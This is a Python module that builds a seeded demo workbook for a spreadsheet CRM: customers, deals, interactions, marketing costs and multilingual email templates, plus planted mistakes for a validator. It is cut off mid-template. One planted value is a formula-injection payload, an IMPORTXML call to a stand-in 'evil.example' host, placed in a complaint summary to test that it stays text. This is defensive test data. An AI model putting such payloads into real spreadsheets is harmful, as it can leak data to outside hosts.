"""Demo data for SheetCRM: a believable small business's workbook, generated from a seed.

``generate_demo(seed, customers, today)`` returns rows per tab name, each row a dict keyed by
column key (see ``sheet_schema/crm.toml``). It is pure: no I/O, no global random state (one
``random.Random(seed)`` and seeded Faker instances), so the same seed and ``today`` give the same
rows. It scales linearly: 50,000 customers (with deals and interactions in proportion) take
seconds. With the default 300 customers it makes about 400 deals, 1,000 interactions, 12 months of
marketing spend per paid source, 24 templates, 5 automations, 3 campaigns and the Settings rows.

What is in it
-------------
* Customers from Spain, Portugal, Brazil, Greece, the UK, the US and Germany (Faker locales
  es_ES, pt_PT, pt_BR, el_GR, en_GB, en_US, de_DE): names in their own script, real cities,
  phones valid for the country (phonenumbers) typed in national or international format, emails
  derived from the name (ASCII-folded; Greek names transliterated) at reserved ``example.*``
  domains, Country as an ISO code or a name, Language matching the country (German customers get
  English), a few 29 February birthdays and a few birthdays in the week after ``today``.
* IDs: rows typed in the last week (customers, deals, interactions) have none yet, nor do the
  Sources, Templates, Automations and Campaigns rows: the bot numbers them on its first cycle.
* Deals in a funnel (many Lead/Qualified, fewer Proposal/Negotiation, about 25% Won and 20% Lost
  with a lost reason and often a competitor), values in EUR, dates consistent with the stage.
* Interactions over the last year: calls, meetings, emails, notes, complaints (some unanswered)
  and Purchase rows with an Amount for every won deal (some customers buy again). Some customers
  were contacted last week, others not for months (dormant).
* Marketing sources with different costs and results: Google Ads, Website and Email pay off,
  Event loses money, Referral and Walk-in bring customers but have no cost rows.
* Input styles people really use: some dates as day-first text ("05/03/2025"), some amounts as
  text ("1.234,50"), some stages spelled differently ("negociación", "closed won"), booleans as
  "yes"/"sí", sources as "Google" or "FB".

Template variables
------------------
Templates (keys welcome, birthday, follow_up, anniversary, dormant, newsletter; languages en, es,
pt, el) are Jinja2 and use only:

* ``{{ customer.name }}``     the customer's full name
* ``{{ customer.company }}``  the customer's company (may be empty; templates test it with ``if``)
* ``{{ sender.name }}``       the Sender name setting
* ``{{ deal.title }}``        the deal's title (follow_up only)

Deliberate mistakes (for the validator to find)
-----------------------------------------------
1. Customers: an invalid email (the ``@`` forgotten: ``name.surnameexample.com``).
2. Customers: a phone with one digit missing.
3. Customers: two customers with the same email (a person typed twice).
4. Customers: a birthday in the future.
5. Customers: a half-typed row (only a name), the last row.
6. Deals: an impossible date, Expected close "31/02/2025".
7. Deals: an unknown stage "Wonn".
8. Deals: a deal referencing a customer ID that does not exist.
9. Interactions: a complaint typed by a customer (no manager) whose summary is
   ``=IMPORTXML("http://evil.example","//a")`` (it must stay text, never become a formula).
"""

from __future__ import annotations

import bisect
import random
from dataclasses import dataclass
from datetime import date, datetime, time, timedelta

import phonenumbers
from babel.numbers import format_decimal
from faker import Faker
from faker.decode import unidecode
from faker.providers.internet.el_GR import latinize

from automations.rules.ids import format_id
from sheet_schema.layout import DEFAULT_SETTINGS

Rows = dict[str, list[dict[str, object]]]

# Per 300 customers: about 400 deals and 1,000 interactions (purchases included).
DEALS_PER_CUSTOMER = 4 / 3
INTERACTIONS_PER_CUSTOMER = 10 / 3
MIN_CUSTOMERS = 30  # room for every deliberate mistake and special birthday
IMPORTXML = '=IMPORTXML("http://evil.example","//a")'
IMPOSSIBLE_DATE = "31/02/2025"
UNKNOWN_STAGE = "Wonn"
SETTINGS_OVERRIDES: dict[str, str] = {
    "Time zone": "Europe/Madrid",
    "Default country": "ES",
    "Language": "en",
    "Currency": "EUR",
    "Date order": "DMY",
    "Sender email": "demo@example.com",
    "Sender name": "Costa Digital Studio",
}
# Rows dated within this many days of ``today`` were typed after the bot's last cycle: no ID yet.
UNNUMBERED_DAYS = 7


@dataclass(frozen=True)
class _Country:
    region: str
    locale: str
    language: str
    # How people type the country and the language (code first: the most common).
    country_spellings: tuple[str, ...]
    language_spellings: tuple[str, ...]
    cities: tuple[str, ...]
    weight: float


_COUNTRIES = (
    _Country(
        "ES",
        "es_ES",
        "es",
        ("ES", "ES", "España", "Spain"),
        ("es", "es", "es", "Español", "Spanish"),
        ("Madrid", "Barcelona", "Valencia", "Sevilla", "Zaragoza", "Málaga", "Bilbao", "Alicante"),
        0.36,
    ),
    _Country(
        "PT",
        "pt_PT",
        "pt",
        ("PT", "Portugal"),
        ("pt", "pt", "Português"),
        ("Lisboa", "Porto", "Braga", "Coimbra", "Aveiro", "Faro", "Setúbal", "Funchal"),
        0.12,
    ),
    _Country(
        "BR",
        "pt_BR",
        "pt",
        ("BR", "Brasil", "Brazil"),
        ("pt", "pt", "Portuguese"),
        ("São Paulo", "Rio de Janeiro", "Belo Horizonte", "Curitiba", "Porto Alegre", "Recife"),
        0.08,
    ),
    _Country(
        "GR",
        "el_GR",
        "el",
        ("GR", "Ελλάδα", "Greece"),
        ("el", "el", "Ελληνικά", "Greek"),
        ("Αθήνα", "Θεσσαλονίκη", "Πάτρα", "Ηράκλειο", "Λάρισα", "Βόλος", "Ιωάννινα", "Χανιά"),
        0.12,
    ),
    _Country(
        "GB",
        "en_GB",
        "en",
        ("GB", "United Kingdom"),
        ("en", "en", "English"),
        ("London", "Manchester", "Birmingham", "Leeds", "Glasgow", "Bristol", "Edinburgh"),
        0.12,
    ),
    _Country(
        "US",
        "en_US",
        "en",
        ("US", "United States"),
        ("en", "English"),
        ("New York", "Boston", "Chicago", "Miami", "San Francisco", "Austin", "Seattle"),
        0.10,
    ),
    _Country(
        "DE",
        "de_DE",
        "en",
        ("DE", "Deutschland", "Germany"),
        ("en", "English"),
        ("Berlin", "München", "Hamburg", "Köln", "Frankfurt am Main", "Stuttgart", "Leipzig"),
        0.10,
    ),
)

# Managers, and the countries each one looks after.
_MANAGERS: tuple[tuple[str, tuple[str, ...]], ...] = (
    ("Lucía Romero", ("ES",)),
    ("Javier Ortega", ("ES", "DE")),
    ("Inês Costa", ("PT", "BR")),
    ("Eleni Georgiou", ("GR",)),
    ("Oliver Hughes", ("GB", "US", "DE")),
)


@dataclass(frozen=True)
class _Source:
    name: str
    share: float  # of customers
    monthly_cost: float | None  # per 300 customers; None: the source has no cost rows
    win_factor: float  # <1 turns won deals into lost ones, >1 the other way round
    value_factor: float
    spellings: tuple[str, ...] = ()  # other ways people type it (choice aliases)


_SOURCES = (
    _Source("Google Ads", 0.22, 1800.0, 1.0, 1.0, ("Google", "Adwords")),
    _Source("Website", 0.14, 600.0, 1.1, 1.0, ("Web", "SEO")),
    _Source("Facebook", 0.12, 1400.0, 0.9, 0.8, ("FB",)),
    _Source("Instagram", 0.08, 700.0, 0.8, 0.7),
    _Source("Email", 0.07, 80.0, 1.2, 0.9, ("Newsletter",)),
    _Source("Event", 0.06, 2600.0, 0.25, 0.7, ("Feria", "Trade show")),
    _Source("Partner", 0.06, 800.0, 1.0, 1.3),
    _Source("Referral", 0.15, None, 1.6, 1.1, ("Word of mouth", "Referido")),
    _Source("Walk-in", 0.05, None, 1.0, 0.6, ("Shop",)),
)

# A funnel: many early deals, fewer late ones; about 25% won and 20% lost.
_STAGES = ("Lead", "Qualified", "Proposal", "Negotiation", "Won", "Lost")
_STAGE_WEIGHTS = (0.20, 0.16, 0.11, 0.08, 0.25, 0.20)
# How people really type stages (all readable through the schema's choice aliases).
_STAGE_SPELLINGS = {
    "Lead": ("lead", "New", "nuevo"),
    "Qualified": ("qualified", "Cualificado"),
    "Proposal": ("proposal", "Propuesta", "Proposta"),
    "Negotiation": ("negociación", "Negociação", "NEGOTIATION"),
    "Won": ("closed won", "Ganado", "won"),
    "Lost": ("closed lost", "Perdido", "lost"),
}
# Days a deal typically waits before it reaches the stage (open deals are this old at most).
_OPEN_AGE_DAYS = {"Lead": 40, "Qualified": 70, "Proposal": 100, "Negotiation": 130}
_LOST_REASONS = (
    "Price",
    "Competitor",
    "No budget",
    "No response",
    "Timing",
    "Product fit",
    "Other",
)
_LOST_WEIGHTS = (0.30, 0.25, 0.15, 0.12, 0.10, 0.05, 0.03)
_COMPETITORS = (
    "PixelWorks",
    "Nova Digital",
    "Agencia Sol",
    "WebLab Lisboa",
    "Athens Web Co",
    "a freelancer",
    "in-house team",
)
_DEAL_TITLES = (
    ("Website redesign", 3500.0),
    ("Online shop setup", 5200.0),
    ("SEO package (6 months)", 1800.0),
    ("Logo and branding", 1200.0),
    ("Annual maintenance plan", 900.0),
    ("Hosting renewal", 240.0),
    ("Mobile app prototype", 9500.0),
    ("Social media campaign", 1500.0),
    ("Staff training workshop", 750.0),
    ("Booking system integration", 2800.0),
)
_KINDS = ("Call", "Email", "Meeting", "Note", "Complaint")
_KIND_WEIGHTS = (0.35, 0.30, 0.15, 0.17, 0.03)
_SUMMARIES = {
    "Call": (
        "Called to check on the project; happy so far.",
        "Left a voicemail, will try again.",
        "Asked about prices for next year.",
        "Llamada: quiere ampliar el servicio.",
        "Discussed timeline and next steps.",
    ),
    "Email": (
        "Sent the quote by email.",
        "Replied to questions about hosting.",
        "Sent invoice and payment details.",
        "Enviado o orçamento revisto.",
        "Shared the design drafts.",
    ),
    "Meeting": (
        "Kick-off meeting at their office.",
        "Video call to review the first draft.",
        "Reunión para presentar la propuesta.",
        "Workshop with their marketing team.",
    ),
    "Note": (
        "Prefers to be contacted in the morning.",
        "Decision maker is the owner, not the office manager.",
        "Budget approved for Q3.",
        "Cliente muy satisfecho, posible referencia.",
    ),
    "Complaint": (
        "Site was down for two hours, customer upset.",
        "Invoice amount does not match the quote.",
        "La web tarda mucho en cargar.",
        "Emails from the contact form are not arriving.",
    ),
}
_PURCHASE_SUMMARIES = ("Paid invoice", "Purchase", "Renewal paid", "Extra work paid")

# Text share of cells typed by hand in another style.
_TEXT_DATE_SHARE = 0.08
_TEXT_AMOUNT_SHARE = 0.08
_AMBIGUOUS_KEPT = 0.25  # share of day-first text dates kept when they also read month-first
_ODD_SPELLING_SHARE = 0.06
_EMAIL_DOMAINS = ("example.com", "example.org", "example.net", "mail.example.com")


@dataclass
class _Customer:
    """What later tabs need to know about a customer row."""

    row_id: str | None
    name: str
    created: date
    country: _Country
    source: _Source
    manager: str
    last_active: date  # no interaction after this day (long ago for dormant customers)


@dataclass
class _Deal:
    row_id: str | None
    customer: _Customer
    title: str
    stage: str
    value: float
    created: date
    closed: date | None
    # False for the deal whose Customer ID was mistyped: nothing else may point at it.
    linkable: bool = True


def generate_demo(seed: int = 7, customers: int = 300, today: date | None = None) -> Rows:
    """Rows per tab name (keyed by column key) of a demo workbook; same seed, same rows.

    ``today`` anchors every date (default: the system's date). ``customers`` sets the size:
    deals and interactions follow in proportion. Raises ValueError below 30 customers.
    """
    if customers < MIN_CUSTOMERS:
        raise ValueError(f"the demo needs at least {MIN_CUSTOMERS} customers, got {customers}")
    today = today or date.today()
    rng = random.Random(seed)
    fakers = {c.region: _seeded_faker(c.locale, seed) for c in _COUNTRIES}
    customer_rows, people = _customers(rng, fakers, customers, today)
    deal_rows, deals = _deals(rng, people, round(customers * DEALS_PER_CUSTOMER), today)
    interaction_rows = _interactions(
        rng, people, deals, round(customers * INTERACTIONS_PER_CUSTOMER), today
    )
    return {
        "Customers": customer_rows,
        "Deals": deal_rows,
        "Interactions": interaction_rows,
        "Sources": _sources(rng, customers, today),
        "Templates": _templates(),
        "Automations": _automations(),
        "Campaigns": _campaigns(today),
        "Settings": demo_settings(),
    }


def demo_settings() -> list[dict[str, object]]:
    """The Settings rows of the demo: every default setting, with the demo's values."""
    return [
        {"key": s.key, "value": SETTINGS_OVERRIDES.get(s.key, s.value), "notes": s.note}
        for s in DEFAULT_SETTINGS
    ]


def _seeded_faker(locale: str, seed: int) -> Faker:
    faker = Faker(locale)
    faker.seed_instance(seed)
    return faker


# ---------------------------------------------------------------------------------- helpers


def _maybe_text_date(rng: random.Random, value: date) -> object:
    """Most dates are real date cells; some were typed as day-first text."""
    if rng.random() >= _TEXT_DATE_SHARE:
        return value
    # Most people who type 05/03 also type 25/03; keep the readable-both-ways ones few, or
    # their warnings would bury the real mistakes in the demo.
    if value.day <= 12 and value.day != value.month and rng.random() >= _AMBIGUOUS_KEPT:
        return value
    if isinstance(value, datetime):
        return value.strftime("%d/%m/%Y %H:%M")
    return value.strftime(rng.choice(("%d/%m/%Y", "%d/%m/%Y", "%d.%m.%Y")))


def _maybe_text_amount(rng: random.Random, value: float) -> object:
    """Most amounts are numbers; some were typed as text the European way ("1.234,50")."""
    if rng.random() >= _TEXT_AMOUNT_SHARE:
        return value
    return str(format_decimal(value, format="#,##0.00", locale="de_DE"))


def _spelled(rng: random.Random, canonical: str, spellings: tuple[str, ...]) -> str:
    if spellings and rng.random() < _ODD_SPELLING_SHARE:
        return rng.choice(spellings)
    return canonical


def _ascii_handle(text: str) -> str:
    """ASCII letters and dots from a name in any script ("Ελένη Νίκου" -> "eleni.nikou")."""
    words = unidecode(latinize(text)).lower().replace("-", " ").split()
    cleaned = ["".join(ch for ch in w if ch.isascii() and ch.isalnum()) for w in words]
    return ".".join(w for w in cleaned if w) or "customer"


def _random_day(rng: random.Random, start: date, end: date) -> date:
    """A day from start to end; never after end (the end is a hard limit such as 'last seen')."""
    if end <= start:
        return end
    return start + timedelta(days=rng.randint(0, (end - start).days))


def _working_time(rng: random.Random, day: date) -> datetime:
    return datetime.combine(day, time(rng.randint(8, 19), rng.choice((0, 5, 15, 20, 30, 45, 50))))


# -------------------------------------------------------------------------------- customers


def _phone_number(rng: random.Random, region: str) -> phonenumbers.PhoneNumber:
    """A number valid for the region: the library's example number with new subscriber digits."""
    kind = (
        phonenumbers.PhoneNumberType.FIXED_LINE
        if rng.random() < 0.2
        else phonenumbers.PhoneNumberType.MOBILE
    )
    example = phonenumbers.example_number_for_type(region, kind)
    if example is None:  # every region the demo uses has both kinds; guard a library change
        raise ValueError(f"phonenumbers has no example {kind} number for {region}")
    digits = str(example.national_number)
    while True:
        national = digits[:3] + "".join(rng.choice("0123456789") for _ in digits[3:])
        number = phonenumbers.PhoneNumber(
            country_code=example.country_code, national_number=int(national)
        )
        if (
            phonenumbers.is_valid_number(number)
            and phonenumbers.region_code_for_number(number) == region
        ):
            return number


def _typed_phone(rng: random.Random, number: phonenumbers.PhoneNumber) -> str:
    """The number as people type it: national or international, with or without spaces."""
    style = rng.random()
    if style < 0.35:
        return str(phonenumbers.format_number(number, phonenumbers.PhoneNumberFormat.NATIONAL))
    if style < 0.7:
        return str(phonenumbers.format_number(number, phonenumbers.PhoneNumberFormat.INTERNATIONAL))
    if style < 0.85:
        return str(phonenumbers.format_number(number, phonenumbers.PhoneNumberFormat.E164))
    national = phonenumbers.format_number(number, phonenumbers.PhoneNumberFormat.NATIONAL)
    return "".join(ch for ch in str(national) if ch.isdigit())


def _drop_a_digit(rng: random.Random, typed: str, region: str) -> str:
    """The typed phone with one digit missing, chosen so the result is not a valid number."""
    positions = [i for i, ch in enumerate(typed) if ch.isdigit()]
    rng.shuffle(positions)
    for index in positions:
        candidate = typed[:index] + typed[index + 1 :]
        try:
            parsed = phonenumbers.parse(candidate, region)
        except phonenumbers.NumberParseException:
            return candidate
        if not phonenumbers.is_valid_number(parsed):
            return candidate
    raise AssertionError(f"no invalid variant of {typed}")  # every real number has one


def _birthday(rng: random.Random, today: date) -> date:
    year = today.year - rng.randint(20, 75)
    return date(year, 1, 1) + timedelta(days=rng.randint(0, 364))


def _leap_year_before(year: int) -> int:
    year -= 1
    while not (year % 4 == 0 and (year % 100 != 0 or year % 400 == 0)):
        year -= 1
    return year


def _birthday_on(rng: random.Random, month: int, day: int, today: date) -> date:
    """A birth date on this month and day, 20 to 70 years ago (a leap year for 29 February)."""
    year = today.year - rng.randint(20, 70)
    if (month, day) == (2, 29):
        year = _leap_year_before(year + 1)
    return date(year, month, day)


def _customers(
    rng: random.Random, fakers: dict[str, Faker], count: int, today: date
) -> tuple[list[dict[str, object]], list[_Customer]]:
    countries = rng.choices(_COUNTRIES, weights=[c.weight for c in _COUNTRIES], k=count)
    sources = rng.choices(_SOURCES, weights=[s.share for s in _SOURCES], k=count)
    # Created over the last 18 months, a little more often recently (the business grows).
    created = sorted(today - timedelta(days=int(rng.triangular(0, 540, 0))) for _ in range(count))
    used_emails: set[str] = set()
    rows: list[dict[str, object]] = []
    people: list[_Customer] = []
    number = 0
    for index in range(count):
        country, source = countries[index], sources[index]
        faker = fakers[country.region]
        first, last = faker.first_name(), faker.last_name()
        name = f"{first} {last}"
        company = faker.company() if rng.random() < 0.4 else None
        handle = _email_handle(rng, first, last)
        domain = rng.choice(_EMAIL_DOMAINS)
        if company and rng.random() < 0.6:
            domain = f"{_ascii_handle(company).replace('.', '')[:20]}.example.com"
        email = f"{handle}@{domain}"
        while email.casefold() in used_emails:  # two people with one name get two addresses
            email = f"{handle}{rng.randint(2, 999)}@{domain}"
        used_emails.add(email.casefold())
        managers = [m for m, regions in _MANAGERS if country.region in regions]
        manager = rng.choice(managers)
        row_id = None
        if created[index] <= today - timedelta(days=UNNUMBERED_DAYS):
            number += 1
            row_id = format_id("C", number)
        activity = rng.random()
        if activity < 0.5:
            last_active = today - timedelta(days=rng.randint(1, 30))
        elif activity < 0.75:
            last_active = today - timedelta(days=rng.randint(31, 89))
        else:  # dormant: nothing for months
            last_active = today - timedelta(days=rng.randint(120, 330))
        last_active = max(last_active, created[index])
        consent: object = rng.random() < 0.88
        if rng.random() < 0.1:
            consent = rng.choice(("yes", "Sí", "no", "sim")) if consent else "no"
        rows.append(
            {
                "id": row_id,
                "name": name,
                "company": company,
                "email": email,
                "phone": _typed_phone(rng, _phone_number(rng, country.region)),
                "country": rng.choice(country.country_spellings),
                "city": rng.choice(country.cities),
                "language": rng.choice(country.language_spellings),
                "birthday": (
                    _maybe_text_date(rng, _birthday(rng, today)) if rng.random() < 0.7 else None
                ),
                "source": _spelled(rng, source.name, source.spellings),
                "manager": manager,
                "created": _maybe_text_date(rng, created[index]),
                "marketing_consent": consent,
                "unsubscribed": True if rng.random() < 0.03 else None,
                "notes": rng.choice(("VIP", "Pays late", "Prefers WhatsApp", None, None, None)),
            }
        )
        people.append(
            _Customer(row_id, name, created[index], country, source, manager, last_active)
        )
    _add_customer_specials(rng, rows, people, today)
    return rows, people


def _email_handle(rng: random.Random, first: str, last: str) -> str:
    first_part, last_part = _ascii_handle(first), _ascii_handle(last)
    first_word = first_part.split(".")[0]
    last_word = last_part.split(".")[0]
    return rng.choice(
        (
            f"{first_word}.{last_word}",
            f"{first_word}{last_word}",
            f"{first_word[0]}.{last_word}",
            f"{first_word}_{last_word}",
            f"{first_word}.{last_word}{rng.randint(1, 99)}",
        )
    )


def _add_customer_specials(
    rng: random.Random, rows: list[dict[str, object]], people: list[_Customer], today: date
) -> None:
    """29 February and next-week birthdays, then the deliberate mistakes (see module doc)."""
    numbered = [i for i, p in enumerate(people) if p.row_id is not None]
    few = max(3, len(rows) // 150)
    # Never the first numbered row (the duplicate needs an earlier original) nor the last row.
    chosen = rng.sample(numbered[1:-1], 2 * few + 4)
    leap, soon, mistakes = chosen[:few], chosen[few : 2 * few], chosen[2 * few :]
    for index in leap:
        rows[index]["birthday"] = _birthday_on(rng, 2, 29, today)
    for offset, index in enumerate(soon):
        upcoming = today + timedelta(days=1 + offset % 6)
        rows[index]["birthday"] = _birthday_on(rng, upcoming.month, upcoming.day, today)
    bad_email, bad_phone, duplicate, future = mistakes
    rows[bad_email]["email"] = str(rows[bad_email]["email"]).replace("@", "", 1)
    region = people[bad_phone].country.region
    rows[bad_phone]["phone"] = _drop_a_digit(rng, str(rows[bad_phone]["phone"]), region)
    # The same person typed twice, later, with the name in lower case: same email.
    original = rng.choice([i for i in numbered if i < duplicate and i not in chosen])
    rows[duplicate]["email"] = rows[original]["email"]
    rows[duplicate]["name"] = str(rows[original]["name"]).lower()
    rows[future]["birthday"] = today.replace(day=1) + timedelta(days=400)
    # The last row: someone started typing a customer and stopped after the name.
    half = rows[-1]
    for key in half:
        if key != "name":
            half[key] = None
    people[-1].row_id = None  # no ID, so no deal or interaction refers to it


# ------------------------------------------------------------------------------------ deals


def _deals(
    rng: random.Random, people: list[_Customer], count: int, today: date
) -> tuple[list[dict[str, object]], list[_Deal]]:
    numbered = [p for p in people if p.row_id is not None]  # in order of creation
    starts = [p.created for p in numbered]
    deals: list[_Deal] = []
    for _ in range(count):
        stage = rng.choices(_STAGES, weights=_STAGE_WEIGHTS)[0]
        closed: date | None
        if stage in ("Won", "Lost"):
            customer, created, closed = _closed_deal(rng, numbered, starts, today)
            factor = customer.source.win_factor
            if stage == "Won" and factor < 1 and rng.random() > factor:
                stage = "Lost"
            elif stage == "Lost" and factor > 1 and rng.random() < factor - 1:
                stage = "Won"
        else:
            customer = _pick(rng, numbered, len(numbered), today - timedelta(days=90), 3)
            latest = min(customer.last_active, today)
            oldest = max(customer.created, latest - timedelta(days=_OPEN_AGE_DAYS[stage]))
            created, closed = _random_day(rng, oldest, latest), None
        title, typical = rng.choice(_DEAL_TITLES)
        value = round(typical * customer.source.value_factor * rng.lognormvariate(0, 0.35), -1)
        deals.append(_Deal(None, customer, title, stage, value, created, closed))
    deals.sort(key=lambda d: d.created)
    number = 0
    for deal in deals:
        if deal.created <= today - timedelta(days=UNNUMBERED_DAYS):
            number += 1
            deal.row_id = format_id("D", number)
    rows = [_deal_row(rng, deal) for deal in deals]
    _add_deal_mistakes(rng, rows, deals, people)
    return rows, deals


def _pick(
    rng: random.Random, customers: list[_Customer], known: int, active_on: date, tries: int
) -> _Customer:
    """One of the first ``known`` customers, preferably one still active on ``active_on``."""
    customer = customers[rng.randrange(known)]
    for _ in range(tries - 1):
        if customer.last_active >= active_on:
            break
        customer = customers[rng.randrange(known)]
    return customer


def _closed_deal(
    rng: random.Random, customers: list[_Customer], starts: list[date], today: date
) -> tuple[_Customer, date, date]:
    """A customer and the created and closed dates of one of their won or lost deals.

    Deals close all year round, a little more often lately (the business grows); the customer
    existed when the deal was created and was still active when it closed.
    """
    closed = today - timedelta(days=1 + int(364 * rng.random() ** 1.3))
    created = closed - timedelta(days=rng.randint(5, 90))
    known = max(1, bisect.bisect_right(starts, created))
    customer = _pick(rng, customers, known, closed, 10)
    created = max(created, customer.created)
    closed = max(closed, created)
    # Someone who bought then was not dormant then.
    customer.last_active = max(customer.last_active, closed)
    return customer, created, closed


def _deal_row(rng: random.Random, deal: _Deal) -> dict[str, object]:
    expected = deal.created + timedelta(days=rng.randint(20, 75))
    lost = deal.stage == "Lost"
    reason = rng.choices(_LOST_REASONS, weights=_LOST_WEIGHTS)[0] if lost else None
    competitor = None
    if lost and (reason in ("Competitor", "Price") or rng.random() < 0.3):
        competitor = rng.choice(_COMPETITORS)
    return {
        "id": deal.row_id,
        "customer_id": deal.customer.row_id,
        "title": deal.title,
        "stage": _spelled(rng, deal.stage, _STAGE_SPELLINGS[deal.stage]),
        "value": _maybe_text_amount(rng, deal.value),
        "source": deal.customer.source.name,
        "manager": deal.customer.manager,
        "created": _maybe_text_date(rng, deal.created),
        "expected_close": _maybe_text_date(rng, expected),
        "closed": _maybe_text_date(rng, deal.closed) if deal.closed else None,
        "lost_reason": reason,
        "competitor": competitor,
        "notes": None,
    }


def _add_deal_mistakes(
    rng: random.Random, rows: list[dict[str, object]], deals: list[_Deal], people: list[_Customer]
) -> None:
    # "Wonn" is a won deal mistyped. The orphan is not a won deal: its purchase would then name
    # a deal of "another" customer, a second mistake nobody planned.
    won = [i for i, d in enumerate(deals) if d.stage == "Won"]
    unknown = rng.choice(won)
    impossible, orphan = rng.sample([i for i, d in enumerate(deals) if d.stage != "Won"], 2)
    rows[impossible]["expected_close"] = IMPOSSIBLE_DATE
    rows[unknown]["stage"] = UNKNOWN_STAGE
    numbered = sum(1 for p in people if p.row_id is not None)
    rows[orphan]["customer_id"] = format_id("C", numbered + 731)
    deals[orphan].linkable = False


# ----------------------------------------------------------------------------- interactions


def _interactions(
    rng: random.Random, people: list[_Customer], deals: list[_Deal], count: int, today: date
) -> list[dict[str, object]]:
    records: list[tuple[datetime, dict[str, object]]] = []
    for deal in deals:
        if deal.stage != "Won" or deal.closed is None:
            continue
        buys = [(deal.closed, deal.value, deal.row_id)]
        if rng.random() < 0.3:  # a repeat buyer
            for _ in range(rng.randint(1, 3)):
                day = _random_day(rng, deal.closed, deal.customer.last_active)
                buys.append((day, round(deal.value * rng.uniform(0.1, 0.5), -1), None))
        for day, amount, deal_id in buys:
            records.append(
                _interaction(
                    rng, deal.customer, "Purchase", _working_time(rng, day), deal_id, amount
                )
            )
    # Calls and emails about most open deals of customers who are not dormant, in the last few
    # days: those deals were followed up in time, the others are overdue.
    for deal in deals:
        customer = deal.customer
        if deal.closed is not None or not (deal.row_id and deal.linkable):
            continue
        if customer.last_active >= today - timedelta(days=60) and rng.random() < 0.7:
            day = max(deal.created, today - timedelta(days=rng.randint(1, 4)))
            customer.last_active = max(customer.last_active, day)
            kind = rng.choice(("Call", "Email", "Meeting"))
            records.append(
                _interaction(rng, deal.customer, kind, _working_time(rng, day), deal.row_id, None)
            )
    numbered = [p for p in people if p.row_id is not None]
    year_ago = today - timedelta(days=365)
    for _ in range(max(0, count - len(records) - 1)):
        customer = rng.choice(numbered)
        kind = rng.choices(_KINDS, weights=_KIND_WEIGHTS)[0]
        day = _random_day(rng, max(customer.created, year_ago), customer.last_active)
        records.append(_interaction(rng, customer, kind, _working_time(rng, day), None, None))
    # A complaint sent through the web form by a customer, with a formula in it.
    victim = rng.choice(numbered)
    moment = _working_time(
        rng, _random_day(rng, today - timedelta(days=20), today - timedelta(days=1))
    )
    injected = _interaction(rng, victim, "Complaint", moment, None, None)[1]
    injected.update(summary=IMPORTXML, manager=None, answered=None)
    records.append((moment, injected))
    records.sort(key=lambda r: r[0])
    number = 0
    for moment, row in records:
        if moment.date() <= today - timedelta(days=UNNUMBERED_DAYS):
            number += 1
            row["id"] = format_id("I", number)
    return [row for _, row in records]


def _interaction(
    rng: random.Random,
    customer: _Customer,
    kind: str,
    moment: datetime,
    deal_id: str | None,
    amount: float | None,
) -> tuple[datetime, dict[str, object]]:
    if kind == "Purchase":
        summary = rng.choice(_PURCHASE_SUMMARIES)
    else:
        summary = rng.choice(_SUMMARIES[kind])
    answered: object = None
    if kind == "Complaint":
        answered = rng.choices((True, False, None), weights=(0.6, 0.2, 0.2))[0]
    return moment, {
        "id": None,
        "date": _maybe_text_date(rng, moment),
        "customer_id": customer.row_id,
        "deal_id": deal_id,
        "kind": kind,
        "manager": customer.manager,
        "summary": summary,
        "amount": _maybe_text_amount(rng, amount) if amount is not None else None,
        "answered": answered,
    }


# --------------------------------------------------------------------- marketing and setup


def _sources(rng: random.Random, customers: int, today: date) -> list[dict[str, object]]:
    """One row per month and paid source over the last 12 months; costs scale with customers."""
    scale = customers / 300
    first = today.replace(day=1)
    months = []
    for back in range(11, -1, -1):
        year, index = divmod(first.year * 12 + first.month - 1 - back, 12)
        months.append(date(year, index + 1, 1))
    rows: list[dict[str, object]] = []
    for month in months:
        for source in _SOURCES:
            if source.monthly_cost is None:
                continue
            cost = round(source.monthly_cost * scale * rng.uniform(0.8, 1.2), 2)
            rows.append(
                {
                    "month": month,  # a first of the month typed as text always reads two ways
                    "source": source.name,
                    "cost": _maybe_text_amount(rng, cost),
                    "notes": "Trade fair stand and travel" if source.name == "Event" else None,
                }
            )
    return rows


_TEMPLATE_TEXT: dict[str, dict[str, tuple[str, str]]] = {
    "welcome": {
        "en": (
            "Welcome to Costa Digital Studio, {{ customer.name }}!",
            "Hello {{ customer.name }},\n\nThank you for choosing us"
            "{% if customer.company %} for {{ customer.company }}{% endif %}. "
            "Reply to this email whenever you need us.\n\n{{ sender.name }}",
        ),
        "es": (
            "¡Bienvenido/a, {{ customer.name }}!",
            "Hola {{ customer.name }}:\n\nGracias por confiar en nosotros"
            "{% if customer.company %} para {{ customer.company }}{% endif %}. "
            "Responde a este correo cuando nos necesites.\n\n{{ sender.name }}",
        ),
        "pt": (
            "Bem-vindo/a, {{ customer.name }}!",
            "Olá {{ customer.name }},\n\nObrigado por confiar em nós"
            "{% if customer.company %} para a {{ customer.company }}{% endif %}. "
            "Responda a este email sempre que precisar.\n\n{{ sender.name }}",
        ),
        "el": (
            "Καλώς ήρθατε, {{ customer.name }}!",
            "Γεια σας {{ customer.name }},\n\nΣας ευχαριστούμε που μας επιλέξατε"
            "{% if customer.company %} για την {{ customer.company }}{% endif %}. "
            "Απαντήστε σε αυτό το email όποτε μας χρειαστείτε.\n\n{{ sender.name }}",
        ),
    },
    "birthday": {
        "en": (
            "Happy birthday, {{ customer.name }}!",
            "Dear {{ customer.name }},\n\nEveryone here wishes you a very happy birthday."
            "\n\n{{ sender.name }}",
        ),
        "es": (
            "¡Feliz cumpleaños, {{ customer.name }}!",
            "Querido/a {{ customer.name }}:\n\nTodo el equipo te desea un feliz cumpleaños."
            "\n\n{{ sender.name }}",
        ),
        "pt": (
            "Feliz aniversário, {{ customer.name }}!",
            "Caro/a {{ customer.name }},\n\nToda a equipa deseja-lhe um feliz aniversário."
            "\n\n{{ sender.name }}",
        ),
        "el": (
            "Χρόνια πολλά, {{ customer.name }}!",
            "Αγαπητέ/ή {{ customer.name }},\n\nΌλη η ομάδα σας εύχεται χρόνια πολλά."
            "\n\n{{ sender.name }}",
        ),
    },
    "follow_up": {
        "en": (
            "About {{ deal.title }}",
            "Hello {{ customer.name }},\n\nI wanted to follow up on {{ deal.title }}. "
            "Do you have any questions, or shall we go ahead?\n\n{{ sender.name }}",
        ),
        "es": (
            "Sobre {{ deal.title }}",
            "Hola {{ customer.name }}:\n\nTe escribo para retomar {{ deal.title }}. "
            "¿Tienes alguna pregunta o seguimos adelante?\n\n{{ sender.name }}",
        ),
        "pt": (
            "Sobre {{ deal.title }}",
            "Olá {{ customer.name }},\n\nEscrevo para dar seguimento a {{ deal.title }}. "
